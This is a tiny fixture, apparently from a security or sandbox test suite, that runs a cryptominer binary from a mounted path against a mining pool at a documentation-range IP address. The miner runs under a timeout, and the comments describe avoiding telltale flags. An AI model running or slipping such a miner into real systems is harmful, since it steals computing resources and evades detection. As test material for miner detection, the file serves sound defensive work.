# a miner of the image under its own name, without flags that tell; the pool answers errors
#bind served/bin:/opt/miner
#pool 198.51.100.69:3333:err
timeout 14 /opt/miner/cpuminer 198.51.100.69 3333 700 99
